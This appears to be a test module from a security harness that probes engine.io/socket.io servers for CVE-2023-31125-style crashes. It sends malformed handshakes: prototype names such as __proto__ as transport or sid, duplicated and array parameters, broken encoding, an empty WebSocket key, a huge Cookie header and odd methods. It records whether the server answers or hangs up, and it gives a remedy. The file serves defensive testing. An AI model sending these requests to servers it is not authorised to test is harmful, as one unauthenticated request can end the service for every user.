import { HarnessError } from '../../../errors.ts'
import type { RequestParts } from '../../../target/wire/index.ts'
import { crashAttack } from '../../kit/crash-attack.ts'
import { fetchPath } from '../../kit/fetch-path.ts'

const upgrade = [
  ['Connection', 'Upgrade'],
  ['Upgrade', 'websocket'],
  ['Sec-WebSocket-Version', '13'],
  ['Sec-WebSocket-Key', 'AAAAAAAAAAAAAAAAAAAAAA=='],
] as const

export default crashAttack({
  id: 'crash/http-malformed',
  rows: ['crash.http.malformed'],
  title:
    'Handshakes that are none: inherited names for a transport, doubled and broken parameters, odd methods and headers',
  requirement: 'CVE-2023-31125: a request that cannot be served is answered with 400 and ends nothing else',
  impact: 'One request, of someone who never logged in, ends the chat for everybody.',
  remedy: 'Keep engine.io at 6.4.2 or later; look names up in a Map, or ask Object.hasOwn first.',
  severity: 'high',
  cwe: ['CWE-248', 'CWE-1321'],
  references: ['CVE-2023-31125', 'CVE-2024-37890'],
  provenBy: 'old-engine',
  steps(context) {
    const base = context.target.profile.path.replace(/\/?$/, '/')
    const query = (text: string) => ({ path: `${base}?${text}` })
    const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'webtransport']
    const requests: readonly ({ readonly path: string } & RequestParts)[] = [
      ...names.map((name) => query(`EIO=4&transport=${name}`)),
      ...names.map((name) => ({ ...query(`EIO=4&transport=${name}`), headers: upgrade })),
      query('EIO=4&transport=polling&sid=__proto__'),
      query('EIO=4&transport=polling&transport=websocket'),
      query('EIO=4&EIO=3&transport=polling'),
      query('EIO[]=4&transport[]=polling'),
      query('EIO=4&transport=polling&sid=a&sid=b'),
      query('EIO=4&transport=polling&%'),
      query('EIO=4&transport=polling&t=%ff%fe%00'),
      { ...query('EIO=4&transport=websocket&sid=x'), headers: upgrade },
      { ...query('EIO=4&transport=websocket'), headers: [...upgrade.slice(0, 3), ['Sec-WebSocket-Key', '']] },
      { ...query('EIO=4&transport=polling'), headers: [['Origin', 'x\u0001y']] },
      { ...query('EIO=4&transport=polling'), headers: [['Cookie', 'a'.repeat(15_000)]] },
      { ...query('EIO=4&transport=polling&sid=x'), method: 'POST', body: '4'.repeat(100) },
      { ...query('EIO=4&transport=polling'), method: 'PROPFIND' },
    ]
    return requests.map(({ path, ...parts }) => ({
      name: `${parts.method ?? 'GET'} ${path.slice(0, 80)}${parts.headers === undefined ? '' : ' with headers'}`,
      async act() {
        try {
          return `HTTP ${(await fetchPath(context, path, parts)).status}`
        } catch (error) {
          if (error instanceof HarnessError && error.code === 'connection-lost') return 'hung up'
          throw error
        }
      },
    }))
  },
})
